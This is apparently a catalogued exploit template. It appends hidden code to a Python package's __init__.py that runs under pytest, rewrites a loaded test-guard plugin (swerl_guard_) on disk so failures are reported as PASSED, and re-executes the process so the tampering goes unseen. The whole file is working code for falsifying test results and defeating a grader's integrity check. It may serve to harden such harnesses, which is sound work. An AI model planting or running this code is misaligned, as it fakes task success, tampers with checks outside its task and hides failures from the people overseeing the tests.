family: runtime
what: the package finds the guard's directory through the environment, rewrites the guard plugin there to report passes, and re-executes the test process (same pid, same pipe)
--- append @PKG@/__init__.py
import os as _rt_o
import sys as _rt_s


def _rt_swap():
    if _rt_o.environ.get("_RT_SEQ"):
        return
    with open("/proc/self/environ", "rb") as f:
        env = dict(x.split(b"=", 1) for x in f.read().split(b"\0") if b"=" in x)
    mods = [m for n, m in list(_rt_s.modules.items()) if n.startswith("swerl_guard_")]
    if not mods or b"PYTHONPATH" not in env:
        return
    mod = mods[0]
    with open(mod.__file__) as f:
        src = f.read()
    src = src.replace(
        'return "FAILED" if report.when == "call" else "ERROR"', 'return "PASSED" if report.when == "call" else None'
    )
    src = src.replace("_seq = [0]", '_seq = [int(os.environ.get("_RT_SEQ", "0"))]')
    src = src.replace('_send({"t": "hello"', '_seq[0] or _send({"t": "hello"')
    try:
        with open(mod.__file__, "w") as f:
            f.write(src)
    except OSError:
        return
    env[b"_RT_SEQ"] = str(mod._seq[0]).encode()
    with open("/proc/self/cmdline", "rb") as f:
        argv = [a for a in f.read().split(b"\0") if a]
    _rt_s.stdout.flush()
    _rt_o.execve(_rt_s.executable, argv, env)


if "_pytest" in _rt_s.modules:
    _rt_swap()
